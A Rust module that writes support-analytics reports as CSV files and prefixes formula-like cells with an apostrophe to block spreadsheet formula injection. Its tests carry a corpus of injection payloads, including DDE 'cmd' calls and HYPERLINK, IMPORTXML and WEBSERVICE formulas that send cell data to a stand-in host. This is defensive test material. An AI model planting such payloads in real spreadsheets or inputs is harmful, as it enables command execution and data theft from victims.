//! Numbers as CSV files for a spreadsheet (RFC 4180, UTF-8 with a mark so that Excel reads every script).
//!
//! A spreadsheet runs what begins like a formula, and some of the texts were written by strangers: such a cell gets an
//! apostrophe in front, which spreadsheets show as text.

use std::borrow::Cow;

use super::report::{Figures, ModelFigures, Report, Times};
use super::tally::Moods;

/// So that Excel takes the file for UTF-8.
const MARK: &[u8] = "\u{FEFF}".as_bytes();
/// What makes a spreadsheet calculate, also in the wide forms of East Asian keyboards.
const FORMULA: [char; 11] = ['=', '+', '-', '@', '\t', '\r', '\n', '＝', '＋', '－', '＠'];

/// Which table of a report.
#[derive(Clone, Copy, Debug, Default, PartialEq, Eq, serde::Deserialize)]
#[serde(rename_all = "snake_case")]
pub enum Table {
    /// A line a day.
    #[default]
    Days,
    /// A line a version.
    Models,
    /// A line a group of questions without an answer.
    Questions,
}

impl Table {
    /// As it is called in addresses and names of files.
    pub fn name(self) -> &'static str {
        match self {
            Self::Days => "days",
            Self::Models => "models",
            Self::Questions => "questions",
        }
    }
}

/// `table` of `report` as a file.
pub fn csv(report: &Report, table: Table) -> Vec<u8> {
    let mut lines = Lines(csv::Writer::from_writer(MARK.to_vec()));
    match table {
        Table::Days => days(report, &mut lines),
        Table::Models => models(report, &mut lines),
        Table::Questions => {
            lines.push(["question", "count", "conversations"].map(str::to_owned));
            for group in &report.unanswered {
                let convs: Vec<String> = group.convs.iter().map(ToString::to_string).collect();
                lines.push([group.text.clone(), group.count.to_string(), convs.join(" ")]);
            }
        }
    }
    lines.0.into_inner().expect("memory takes every line. This is a bug.")
}

fn days(report: &Report, lines: &mut Lines) {
    let columns = |figures: &Figures| {
        let Figures { sums: s, first_ms, total_ms, staff_wait_ms } = figures;
        let counts = [
            ("conversations", s.conversations),
            ("messages", s.messages),
            ("replies", s.replies),
            ("by_staff", s.by_staff),
            ("handoffs", s.handoffs),
            ("resolved_by_model", s.resolved_by_model),
            ("resolved_quietly", s.resolved_quietly),
            ("resolved_by_staff", s.resolved_by_staff),
            ("up", s.up),
            ("down", s.down),
            ("mood_positive", s.mood.positive),
            ("mood_neutral", s.mood.neutral),
            ("mood_negative", s.mood.negative),
        ];
        let mut columns: Vec<(String, String)> =
            counts.into_iter().map(|(name, n)| (name.to_owned(), n.to_string())).collect();
        columns.extend(times("first_ms", first_ms));
        columns.extend(times("total_ms", total_ms));
        columns.extend(times("staff_wait_ms", staff_wait_ms));
        columns
    };
    let names = columns(&Figures::default()).into_iter().map(|(name, _)| name);
    lines.push(["day".to_owned()].into_iter().chain(names));
    for day in &report.days {
        let values = columns(&day.figures).into_iter().map(|(_, value)| value);
        lines.push([day.day.clone()].into_iter().chain(values));
    }
}

fn models(report: &Report, lines: &mut Lines) {
    let names = [
        "model",
        "adapter",
        "replies",
        "up",
        "down",
        "handoffs",
        "resolved_by_model",
        "mood_positive",
        "mood_neutral",
        "mood_negative",
    ]
    .map(str::to_owned);
    let of =
        |first: &Times, total: &Times| times("first_ms", first).into_iter().chain(times("total_ms", total));
    let none = Times::default();
    lines.push(names.into_iter().chain(of(&none, &none).map(|(name, _)| name)));
    for one in &report.models {
        let adapter = one.adapter.clone().unwrap_or_default();
        let ModelFigures { replies, up, down, handoffs, resolved_by_model, mood, .. } = one;
        let Moods { positive, neutral, negative } = mood;
        let counts = [replies, up, down, handoffs, resolved_by_model, positive, neutral, negative]
            .map(|n| n.to_string());
        let values = of(&one.first_ms, &one.total_ms).map(|(_, value)| value);
        lines.push([one.model.clone(), adapter].into_iter().chain(counts).chain(values));
    }
}

/// The columns of `times`: what they are called, and what they say; empty where there is nothing.
fn times(name: &str, times: &Times) -> [(String, String); 3] {
    let said = |value: Option<u32>| value.map_or_else(String::new, |ms| ms.to_string());
    [
        (format!("{name}_n"), times.n.to_string()),
        (format!("{name}_p50"), said(times.p50)),
        (format!("{name}_p95"), said(times.p95)),
    ]
}

struct Lines(csv::Writer<Vec<u8>>);

impl Lines {
    fn push(&mut self, cells: impl IntoIterator<Item = String>) {
        let cells: Vec<String> = cells.into_iter().map(|text| cell(&text).into_owned()).collect();
        self.0.write_record(&cells).expect("memory takes every line. This is a bug.");
    }
}

/// `text` as a spreadsheet shows it and never runs it.
fn cell(text: &str) -> Cow<'_, str> {
    if text.starts_with(FORMULA) { Cow::Owned(format!("'{text}")) } else { Cow::Borrowed(text) }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::staff::numbers::Unanswered;

    /// The usual ones, after what is published about formula injection.
    const CORPUS: [&str; 16] = [
        "=1+1",
        "+1+1",
        "-1+1",
        "@SUM(1+1)*cmd|' /C calc'!A0",
        "=cmd|' /C calc'!A0",
        "=HYPERLINK(\"http://brackenfold.example?x=\"&A1,\"Click\")",
        "=IMPORTXML(CONCAT(\"http://brackenfold.example/\",A1),\"//a\")",
        "=WEBSERVICE(\"http://brackenfold.example\")",
        "-2+3+cmd|' /C calc'!D2",
        "\t=1+1",
        "\r=1+1",
        "\n=1+1",
        "＝1+1",
        "＋1+1",
        "－1+1",
        "＠SUM(1)",
    ];

    #[test]
    fn no_cell_is_a_formula_and_every_text_comes_back() {
        let ask = |text: &str| Unanswered { text: text.to_owned(), count: 1, convs: Vec::new() };
        let harmless = ["What is 1+1?", "\"a\", \"b\"", "me@example.com", "哪里", "a\nb", "'quoted'", ""];
        let report = Report {
            unanswered: CORPUS.iter().chain(&harmless).map(|text| ask(text)).collect(),
            ..Report::default()
        };
        let file = csv(&report, Table::Questions);
        let mut reader = csv::Reader::from_reader(file.strip_prefix(MARK).unwrap());
        let cells: Vec<String> = reader.records().map(|line| line.unwrap()[0].to_owned()).collect();
        assert_eq!(cells.len(), CORPUS.len() + harmless.len());
        for (cell, text) in cells.iter().zip(CORPUS) {
            assert_eq!(*cell, format!("'{text}"));
        }
        assert_eq!(cells[CORPUS.len()..], harmless);
    }

    #[test]
    fn every_line_has_every_column() {
        let day = |name: &str| super::super::Day { day: name.to_owned(), figures: Figures::default() };
        let report = Report { days: vec![day("2026-11-01"), day("2026-11-02")], ..Report::default() };
        let text = |table| String::from_utf8(csv(&report, table)).unwrap().replace('\u{FEFF}', "");
        let days = [
            "day,conversations,messages,replies,by_staff,handoffs,resolved_by_model,resolved_quietly,\
             resolved_by_staff,up,down,mood_positive,mood_neutral,mood_negative,first_ms_n,first_ms_p50,\
             first_ms_p95,total_ms_n,total_ms_p50,total_ms_p95,staff_wait_ms_n,staff_wait_ms_p50,\
             staff_wait_ms_p95",
            "2026-11-01,0,0,0,0,0,0,0,0,0,0,0,0,0,0,,,0,,,0,,",
            "2026-11-02,0,0,0,0,0,0,0,0,0,0,0,0,0,0,,,0,,,0,,",
        ];
        assert_eq!(text(Table::Days).lines().collect::<Vec<_>>(), days);
        assert_eq!(
            text(Table::Models).trim_end(),
            "model,adapter,replies,up,down,handoffs,resolved_by_model,mood_positive,mood_neutral,\
             mood_negative,first_ms_n,first_ms_p50,first_ms_p95,total_ms_n,\
             total_ms_p50,total_ms_p95"
        );
    }
}
